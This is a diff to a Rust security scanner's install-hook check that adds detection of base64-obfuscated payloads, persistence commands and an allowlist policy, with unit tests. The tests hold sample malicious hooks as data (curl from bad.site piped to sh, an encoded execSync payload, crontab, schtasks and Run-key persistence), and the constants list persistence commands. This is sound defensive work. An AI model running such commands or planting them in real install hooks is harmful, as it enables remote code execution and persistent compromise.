@@ -1,6 +1,7 @@
 use async_trait::async_trait;
 use safe_pkgs_core::{
-    Check, CheckExecutionContext, CheckFinding, CheckId, PackageVersion, RegistryError, Severity,
+    Check, CheckExecutionContext, CheckFinding, CheckId, InstallScriptPolicy, PackageVersion,
+    RegistryError, Severity,
 };
 
 const CHECK_ID: CheckId = "install_script";
@@ -17,6 +18,15 @@ const SUSPICIOUS_PATTERNS: [&str; 11] = [
     "sh -c",
     "certutil",
 ];
+/// Commands that register scheduled tasks, services, or login agents.
+const PERSISTENCE_COMMANDS: [&str; 5] = ["crontab", "systemctl", "launchctl", "at", "schtasks"];
+/// Shortest token treated as a possible base64 payload.
+const MIN_ENCODED_TOKEN_LEN: usize = 16;
+/// Longer tokens are not decoded, bounding the work spent per token; they are flagged
+/// instead, since a payload that cannot be inspected is not evidence of a clean hook.
+const MAX_ENCODED_TOKEN_LEN: usize = 4096;
+/// At most this many decodable tokens are inspected per script. Decoding is never recursive.
+const MAX_DECODED_TOKENS_PER_SCRIPT: usize = 8;
 
 pub fn create_check() -> Box<dyn Check> {
     Box::new(InstallScriptCheck)
@@ -34,6 +44,10 @@ impl Check for InstallScriptCheck {
         "Flags suspicious package install hooks (preinstall/install/postinstall)."
     }
 
+    fn needs_full_metadata(&self) -> bool {
+        true
+    }
+
     async fn run(
         &self,
         context: &CheckExecutionContext<'_>,
@@ -42,38 +56,169 @@ impl Check for InstallScriptCheck {
             return Ok(Vec::new());
         };
 
-        Ok(run(context.package_name, resolved_version)
-            .await
-            .into_iter()
-            .collect())
+        Ok(run(
+            context.package_name,
+            resolved_version,
+            &context.policy.install_script,
+        )
+        .await
+        .into_iter()
+        .collect())
     }
 }
 
-async fn run(package_name: &str, version: &PackageVersion) -> Option<CheckFinding> {
+async fn run(
+    package_name: &str,
+    version: &PackageVersion,
+    policy: &InstallScriptPolicy,
+) -> Option<CheckFinding> {
     if version.install_scripts.is_empty() {
         return None;
     }
 
+    // A payload hidden behind base64 is a stronger signal than a plain suspicious command.
+    let obfuscated = version
+        .install_scripts
+        .iter()
+        .find_map(|script| decoded_suspicious_payload(script).map(|decoded| (script, decoded)));
+    if let Some((script, decoded)) = obfuscated {
+        return Some(
+            CheckFinding::new(
+                Severity::Critical,
+                format!(
+                    "{package_name}@{} has an install hook with an encoded suspicious payload: {decoded}",
+                    version.version
+                ),
+                "obfuscated_install_hook",
+            )
+            .with_code("INST002")
+            .with_fact("package_name", package_name)
+            .with_fact("resolved_version", version.version.as_str())
+            .with_fact("script", script.as_str())
+            .with_fact("decoded_payload", decoded),
+        );
+    }
+
+    let oversized = version.install_scripts.iter().find_map(|script| {
+        oversized_encoded_token_len(script).map(|token_len| (script, token_len))
+    });
+    if let Some((script, token_len)) = oversized {
+        return Some(
+            CheckFinding::new(
+                Severity::High,
+                format!(
+                    "{package_name}@{} has an install hook with an encoded token too long to inspect ({token_len} characters)",
+                    version.version
+                ),
+                "oversized_encoded_token",
+            )
+            .with_code("INST005")
+            .with_fact("package_name", package_name)
+            .with_fact("resolved_version", version.version.as_str())
+            .with_fact("script", script.as_str())
+            .with_fact("token_length", token_len),
+        );
+    }
+
+    // Persistence outlives the install itself, so it is reported apart from downloads.
+    let persistent = policy
+        .detect_persistence
+        .then(|| {
+            version
+                .install_scripts
+                .iter()
+                .find_map(|script| persistence_mechanism(script).map(|found| (script, found)))
+        })
+        .flatten();
+    if let Some((script, mechanism)) = persistent {
+        return Some(
+            CheckFinding::new(
+                Severity::Critical,
+                format!(
+                    "{package_name}@{} has an install hook that sets up persistence via {mechanism}: {script}",
+                    version.version
+                ),
+                "persistent_install_hook",
+            )
+            .with_code("INST003")
+            .with_fact("package_name", package_name)
+            .with_fact("resolved_version", version.version.as_str())
+            .with_fact("script", script.as_str())
+            .with_fact("mechanism", mechanism),
+        );
+    }
+
     let suspicious = version
         .install_scripts
         .iter()
         .find(|script| is_suspicious(script));
 
-    suspicious.map(|script| {
+    if let Some(script) = suspicious {
+        return Some(
+            CheckFinding::new(
+                Severity::High,
+                format!(
+                    "{package_name}@{} has a suspicious install hook: {script}",
+                    version.version
+                ),
+                "suspicious_install_hook",
+            )
+            .with_code("INST001")
+            .with_fact("package_name", package_name)
+            .with_fact("resolved_version", version.version.as_str())
+            .with_fact("script", script.as_str()),
+        );
+    }
+
+    // Under `deny_all`, any hook outside the allowlist is flagged regardless of content.
+    let unapproved = policy
+        .deny_all
+        .then(|| {
+            version
+                .install_scripts
+                .iter()
+                .find(|script| !is_allowed_command(script, &policy.allowed_commands))
+        })
+        .flatten();
+    unapproved.map(|script| {
         CheckFinding::new(
             Severity::High,
             format!(
-                "{package_name}@{} has a suspicious install hook: {script}",
+                "{package_name}@{} has an install hook that is not on the allowed commands list: {script}",
                 version.version
             ),
-            "suspicious_install_hook",
+            "unapproved_install_hook",
         )
+        .with_code("INST004")
         .with_fact("package_name", package_name)
         .with_fact("resolved_version", version.version.as_str())
         .with_fact("script", script.as_str())
     })
 }
 
+/// Whether the hook's command (without its `<hook>:` label) exactly matches an allowed
+/// command, ignoring differences in whitespace.
+fn is_allowed_command(script: &str, allowed_commands: &[String]) -> bool {
+    let command = normalize_command(hook_command(script));
+    allowed_commands
+        .iter()
+        .any(|allowed| normalize_command(allowed) == command)
+}
+
+/// Strips the `<hook>: ` label registries prepend to install scripts.
+fn hook_command(script: &str) -> &str {
+    match script.split_once(':') {
+        Some((label, command)) if !label.is_empty() && !label.contains(char::is_whitespace) => {
+            command
+        }
+        _ => script,
+    }
+}
+
+fn normalize_command(command: &str) -> String {
+    command.split_whitespace().collect::<Vec<_>>().join(" ")
+}
+
 fn is_suspicious(script: &str) -> bool {
     let normalized = script.to_ascii_lowercase();
     SUSPICIOUS_PATTERNS
@@ -81,10 +226,95 @@ fn is_suspicious(script: &str) -> bool {
         .any(|pattern| normalized.contains(pattern))
 }
 
+/// Returns the persistence mechanism a script invokes, matching only the command word of
+/// each shell segment so `at` inside ordinary text is not flagged.
+fn persistence_mechanism(script: &str) -> Option<&'static str> {
+    script
+        .to_ascii_lowercase()
+        .split([';', '&', '|', '\n', '(', ')', '`', '"', '\''])
+        .find_map(segment_persistence_mechanism)
+}
+
+fn segment_persistence_mechanism(segment: &str) -> Option<&'static str> {
+    // Skips the `postinstall:` hook label and privilege wrappers before the command word.
+    let mut words = segment
+        .split_whitespace()
+        .skip_while(|word| word.ends_with(':') || matches!(*word, "sudo" | "nohup"));
+    let command = words.next()?;
+    let command = command.rsplit(['/', '\\']).next().unwrap_or(command);
+    let command = command.strip_suffix(".exe").unwrap_or(command);
+    if let Some(found) = PERSISTENCE_COMMANDS
+        .into_iter()
+        .find(|candidate| *candidate == command)
+    {
+        return Some(found);
+    }
+    // `reg add` of a Run or RunOnce autostart key.
+    (command == "reg" && words.next() == Some("add") && segment.contains("\\currentversion\\run"))
+        .then_some("reg add")
+}
+
+/// Decodes long base64-looking tokens once and returns the first decoded text that
+/// matches a suspicious pattern. Tokens that do not decode do not use up the budget.
+fn decoded_suspicious_payload(script: &str) -> Option<String> {
+    script
+        .split(|ch: char| !is_base64_char(ch))
+        .filter(|token| (MIN_ENCODED_TOKEN_LEN..=MAX_ENCODED_TOKEN_LEN).contains(&token.len()))
+        .filter_map(decode_base64)
+        .take(MAX_DECODED_TOKENS_PER_SCRIPT)
+        .find(|decoded| is_suspicious(decoded))
+}
+
+/// Length of the first base64-looking token too long to decode, if any.
+fn oversized_encoded_token_len(script: &str) -> Option<usize> {
+    script
+        .split(|ch: char| !is_base64_char(ch))
+        .map(str::len)
+        .find(|len| *len > MAX_ENCODED_TOKEN_LEN)
+}
+
+fn is_base64_char(ch: char) -> bool {
+    ch.is_ascii_alphanumeric() || matches!(ch, '+' | '/' | '=' | '-' | '_')
+}
+
+/// Decodes standard or URL-safe base64 (padding optional) into UTF-8 text.
+fn decode_base64(token: &str) -> Option<String> {
+    let trimmed = token.trim_end_matches('=');
+    let mut bytes = Vec::with_capacity(trimmed.len() * 3 / 4);
+    let mut buffer = 0u32;
+    let mut bits = 0u32;
+    for byte in trimmed.bytes() {
+        let value = match byte {
+            b'A'..=b'Z' => byte - b'A',
+            b'a'..=b'z' => byte - b'a' + 26,
+            b'0'..=b'9' => byte - b'0' + 52,
+            b'+' | b'-' => 62,
+            b'/' | b'_' => 63,
+            _ => return None,
+        };
+        buffer = (buffer << 6) | u32::from(value);
+        bits += 6;
+        if bits >= 8 {
+            bits -= 8;
+            bytes.push((buffer >> bits) as u8);
+            buffer &= (1 << bits) - 1;
+        }
+    }
+    String::from_utf8(bytes).ok()
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    fn policy(detect_persistence: bool) -> InstallScriptPolicy {
+        InstallScriptPolicy {
+            detect_persistence,
+            deny_all: false,
+            allowed_commands: Vec::new(),
+        }
+    }
+
     #[tokio::test]
     async fn suspicious_install_script_is_high_risk() {
         let version = PackageVersion {
@@ -92,13 +322,91 @@ mod tests {
             published: None,
             deprecated: false,
             install_scripts: vec!["preinstall: curl https://bad.site | sh".to_string()],
+            unpacked_size: None,
+            file_count: None,
+            maintainer_emails: Vec::new(),
+            bin_targets: Vec::new(),
+            license: None,
+            repository_url: None,
+            published_estimated: false,
         };
 
-        let finding = run("demo", &version).await.expect("finding");
+        let finding = run("demo", &version, &policy(true)).await.expect("finding");
         assert_eq!(finding.severity, Severity::High);
+        assert_eq!(finding.code, "INST001");
         assert!(finding.reason.contains("suspicious install hook"));
     }
 
+    #[tokio::test]
+    async fn base64_encoded_download_payload_is_critical() {
+        // "curl https://bad.site/x | sh"
+        let version = PackageVersion {
+            version: "1.0.0".to_string(),
+            published: None,
+            deprecated: false,
+            install_scripts: vec![
+                "postinstall: node -e \"require('child_process').execSync(Buffer.from('Y3VybCBodHRwczovL2JhZC5zaXRlL3ggfCBzaA==','base64'))\""
+                    .to_string(),
+            ],
+            unpacked_size: None,
+            file_count: None,
+            maintainer_emails: Vec::new(),
+            bin_targets: Vec::new(),
+            license: None,
+            repository_url: None,
+            published_estimated: false,
+        };
+
+        let finding = run("demo", &version, &policy(true)).await.expect("finding");
+        assert_eq!(finding.severity, Severity::Critical);
+        assert_eq!(finding.code, "INST002");
+        assert!(finding.reason.contains("curl https://bad.site/x | sh"));
+    }
+
+    #[test]
+    fn undecodable_tokens_do_not_exhaust_the_decode_budget() {
+        // Plain words are long enough to be candidates but are not valid UTF-8 once decoded.
+        let filler = "zzzzzzzzzzzzzzzzzzzzzz ".repeat(MAX_DECODED_TOKENS_PER_SCRIPT + 2);
+        let script = format!("{filler}Y3VybCBodHRwczovL2JhZC5zaXRlL3ggfCBzaA==");
+        assert!(decode_base64("zzzzzzzzzzzzzzzzzzzzzz").is_none());
+        assert_eq!(
+            decoded_suspicious_payload(&script).as_deref(),
+            Some("curl https://bad.site/x | sh")
+        );
+    }
+
+    #[tokio::test]
+    async fn oversized_encoded_token_is_flagged() {
+        let version = PackageVersion {
+            version: "1.0.0".to_string(),
+            published: None,
+            deprecated: false,
+            install_scripts: vec![format!(
+                "postinstall: node -e \"eval(atob('{}'))\"",
+                "QUFB".repeat(MAX_ENCODED_TOKEN_LEN)
+            )],
+            unpacked_size: None,
+            file_count: None,
+            maintainer_emails: Vec::new(),
+            bin_targets: Vec::new(),
+            license: None,
+            repository_url: None,
+            published_estimated: false,
+        };
+
+        let finding = run("demo", &version, &policy(true)).await.expect("finding");
+        assert_eq!(finding.severity, Severity::High);
+        assert_eq!(finding.code, "INST005");
+        assert_eq!(finding.reason_code, "oversized_encoded_token");
+    }
+
+    #[test]
+    fn benign_base64_tokens_are_not_flagged() {
+        // "hello from a build step"
+        assert!(decoded_suspicious_payload("echo aGVsbG8gZnJvbSBhIGJ1aWxkIHN0ZXA=").is_none());
+        assert!(decoded_suspicious_payload("node scripts/build-native-addon.js").is_none());
+    }
+
     #[tokio::test]
     async fn no_install_scripts_returns_none() {
         let version = PackageVersion {
@@ -106,8 +414,110 @@ mod tests {
             published: None,
             deprecated: false,
             install_scripts: Vec::new(),
+            unpacked_size: None,
+            file_count: None,
+            maintainer_emails: Vec::new(),
+            bin_targets: Vec::new(),
+            license: None,
+            repository_url: None,
+            published_estimated: false,
+        };
+
+        assert!(run("demo", &version, &policy(true)).await.is_none());
+    }
+
+    fn version_with_script(script: &str) -> PackageVersion {
+        PackageVersion {
+            version: "1.0.0".to_string(),
+            published: None,
+            deprecated: false,
+            install_scripts: vec![script.to_string()],
+            unpacked_size: None,
+            file_count: None,
+            maintainer_emails: Vec::new(),
+            bin_targets: Vec::new(),
+            license: None,
+            repository_url: None,
+            published_estimated: false,
+        }
+    }
+
+    #[tokio::test]
+    async fn crontab_install_hook_is_critical_persistence() {
+        let version = version_with_script(
+            "postinstall: (crontab -l; echo '*/5 * * * * node ~/.cache/x.js') | crontab -",
+        );
+
+        let finding = run("demo", &version, &policy(true)).await.expect("finding");
+        assert_eq!(finding.severity, Severity::Critical);
+        assert_eq!(finding.reason_code, "persistent_install_hook");
+        assert_eq!(finding.code, "INST003");
+        assert!(finding.reason.contains("via crontab"));
+    }
+
+    #[tokio::test]
+    async fn schtasks_create_install_hook_is_critical_persistence() {
+        let version = version_with_script(
+            "install: schtasks /create /sc onlogon /tn updater /tr C:\\Users\\Public\\u.exe",
+        );
+
+        let finding = run("demo", &version, &policy(true)).await.expect("finding");
+        assert_eq!(finding.severity, Severity::Critical);
+        assert!(finding.reason.contains("via schtasks"));
+    }
+
+    #[tokio::test]
+    async fn persistence_detection_can_be_disabled() {
+        let version = version_with_script("postinstall: crontab -r");
+        assert!(run("demo", &version, &policy(false)).await.is_none());
+    }
+
+    #[test]
+    fn persistence_matches_command_words_only() {
+        assert_eq!(
+            persistence_mechanism(
+                "postinstall: reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d x.exe"
+            ),
+            Some("reg add")
+        );
+        assert_eq!(
+            persistence_mechanism("postinstall: sudo /usr/bin/systemctl enable evil"),
+            Some("systemctl")
+        );
+        assert_eq!(
+            persistence_mechanism("postinstall: echo look at this"),
+            None
+        );
+        assert_eq!(persistence_mechanism("build: node scripts/format.js"), None);
+    }
+
+    #[tokio::test]
+    async fn deny_all_flags_benign_hook_unless_allowed() {
+        let version = version_with_script("postinstall: echo hello");
+        assert!(run("demo", &version, &policy(true)).await.is_none());
+
+        let mut strict = policy(true);
+        strict.deny_all = true;
+        let finding = run("demo", &version, &strict).await.expect("finding");
+        assert_eq!(finding.severity, Severity::High);
+        assert_eq!(finding.reason_code, "unapproved_install_hook");
+        assert_eq!(finding.code, "INST004");
+        assert!(finding.reason.contains("echo hello"));
+
+        strict.allowed_commands = vec!["echo  hello".to_string()];
+        assert!(run("demo", &version, &strict).await.is_none());
+    }
+
+    #[tokio::test]
+    async fn allowed_commands_do_not_exempt_suspicious_hooks() {
+        let version = version_with_script("postinstall: curl https://bad.site | sh");
+        let strict = InstallScriptPolicy {
+            detect_persistence: true,
+            deny_all: true,
+            allowed_commands: vec!["curl https://bad.site | sh".to_string()],
         };
 
-        assert!(run("demo", &version).await.is_none());
+        let finding = run("demo", &version, &strict).await.expect("finding");
+        assert_eq!(finding.code, "INST001");
     }
 }